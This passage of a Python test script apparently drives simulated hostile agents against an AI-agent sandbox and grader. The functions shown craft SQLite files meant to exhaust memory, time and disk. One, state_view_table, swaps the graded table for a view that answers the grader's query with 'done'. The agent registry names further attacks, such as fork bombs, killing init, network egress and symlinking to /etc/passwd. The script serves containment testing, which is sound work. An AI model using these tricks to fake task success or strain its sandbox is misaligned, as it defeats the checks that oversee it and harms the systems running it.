    c.executescript("DROP TABLE job; CREATE TABLE job (id INTEGER PRIMARY KEY, v TEXT GENERATED ALWAYS AS ('x') VIRTUAL);")
    c.executemany("INSERT INTO job (id) VALUES (?)", [(i,) for i in range(1, rows + 1)])
    c.commit()
    c.execute("PRAGMA writable_schema=ON")
    c.execute("UPDATE sqlite_master SET sql = ? WHERE name = 'job'",
              (f"CREATE TABLE job (id INTEGER PRIMARY KEY, v TEXT GENERATED ALWAYS AS ({expr}) VIRTUAL)",))
    c.commit()
    c.close()


def state_memory_bomb() -> None:
    """A small file whose every read of job.v builds an 800 MB string (a generated column)."""
    _recreate_job("hex(zeroblob(400000000 + id))", rows=8)
    record({"event": "crafted-state", "size": os.path.getsize(STATE)})


def state_slow_rows() -> None:
    """A 32 KB file whose 3000 rows cost ~10 ms each to read (a slow generated column)."""
    _recreate_job("substr(replace(hex(zeroblob(20000000 + id)), '00', 'x'), 1, 4)", rows=3000)  # per row: uses id
    record({"event": "crafted-state", "size": os.path.getsize(STATE)})


def state_view_table() -> None:
    """The table the grader checks replaced by a view that answers its query 'right'."""
    c = sqlite3.connect(STATE)
    c.executescript("DROP TABLE job; CREATE VIEW job AS SELECT 1 AS id, 'done' AS v;")
    c.commit()
    c.close()
    record({"event": "crafted-state", "size": os.path.getsize(STATE)})


def state_huge_rows() -> None:
    """Two rows of 48 MB each in the table the grader diffs (built inside SQLite)."""
    c = sqlite3.connect(STATE)
    c.execute("UPDATE job SET v = replace(hex(zeroblob(24000000)), '0', 'd') WHERE id = 1")
    c.execute("INSERT INTO job (id, v) VALUES (2, replace(hex(zeroblob(24000000)), '0', 'e'))")
    c.commit()
    c.close()
    record({"event": "crafted-state", "size": os.path.getsize(STATE)})


def state_huge_wal() -> None:
    """Committed rows left in a 100 MB state.db-wal (WAL mode, never checkpointed)."""
    c = sqlite3.connect(STATE)
    c.execute("PRAGMA journal_mode=WAL")
    c.execute("PRAGMA wal_autocheckpoint=0")
    blob = "w" * MiB
    for i in range(100):
        c.execute("INSERT OR REPLACE INTO job (id, v) VALUES (?, ?)", (i + 2, blob))
        c.commit()
    wal = os.path.getsize(STATE + "-wal")
    os._exit(record({"event": "crafted-state", "size": os.path.getsize(STATE), "wal": wal}) or 0)  # no checkpoint on close


def state_many_tables() -> None:
    """20 000 tables (a schema far bigger than any fixture)."""
    c = sqlite3.connect(STATE)
    c.execute("BEGIN")
    for i in range(20000):
        c.execute(f"CREATE TABLE t{i} (x INTEGER PRIMARY KEY, y TEXT)")
        c.execute(f"INSERT INTO t{i} (y) VALUES ('row')")
    c.commit()
    c.close()
    record({"event": "crafted-state", "size": os.path.getsize(STATE)})


def export_at_caps() -> None:
    """Evidence just under its caps: a 60 MB state and a 40 MB transcript (the controller
    must copy them out without holding them in memory)."""
    c = sqlite3.connect(STATE)
    c.execute("INSERT INTO job (id, v) VALUES (2, replace(hex(zeroblob(30000000)), '0', 'z'))")
    c.commit()
    c.close()
    with open(TRANSCRIPT, "w") as f:
        line = json.dumps({"task": TASK, "pad": "p" * (MiB - 100)}) + "\n"
        for _ in range(40):
            f.write(line)
    print(json.dumps({"task": TASK, "event": "crafted-state", "size": os.path.getsize(STATE)}), flush=True)


# --------------------------------------------------------------------------- control


def benign() -> None:
    """Do the task, and check that the sandbox is fresh (no leftovers of any earlier attempt)."""
    procs = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                procs.append(open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode().strip())
            except OSError:
                pass
    facts = {
        "work": sorted(os.listdir(WORK)),
        "tmp": sorted(os.listdir("/tmp")),
        "dev_shm": sorted(os.listdir("/dev/shm")) if os.path.isdir("/dev/shm") else None,
        "procs": sorted(procs),
        "affinity": sorted(os.sched_getaffinity(0)),
    }
    c = sqlite3.connect(STATE)
    c.execute("UPDATE job SET v = 'done' WHERE id = 1")
    c.commit()
    c.close()
    record({"event": "benign", **facts})


AGENTS = {
    "fork-bomb": fork_bomb,
    "memory-hog": memory_hog,
    "fill-disk": fill_disk,
    "stdout-flood": stdout_flood,
    "sigterm-orphans": sigterm_orphans,
    "sleep-forever": sleep_forever,
    "cpu-threads": cpu_threads,
    "kill-init": kill_init,
    "hijack-keeper": hijack_keeper,
    "network-egress": network_egress,
    "write-system": write_system,
    "io-uring": io_uring,
    "vsock": vsock,
    "vsock32": vsock32,
    "export-symlink-passwd": export_symlink_passwd,
    "export-symlink-host": export_symlink_host,
    "export-special": export_special,
    "export-dir": export_dir,
    "export-wal": export_wal,
    "export-giant": export_giant,
    "export-malformed": export_malformed,
    "state-memory-bomb": state_memory_bomb,
    "state-slow-rows": state_slow_rows,
    "state-view-table": state_view_table,
    "state-huge-rows": state_huge_rows,
    "state-huge-wal": state_huge_wal,
    "state-many-tables": state_many_tables,
    "export-at-caps": export_at_caps,
    "benign": benign,
}


def main() -> int:
    if len(sys.argv) >= 3 and sys.argv[1] == "--orphan":
        _orphan_main(sys.argv[2])
        return 0
    agent = AGENTS.get(TASK)
    if agent is None:
        print(f"hostile: no agent for task {TASK!r}; agents: {', '.join(AGENTS)}", file=sys.stderr)
        return 2
    agent()
    return 0


if __name__ == "__main__":
    sys.exit(main())
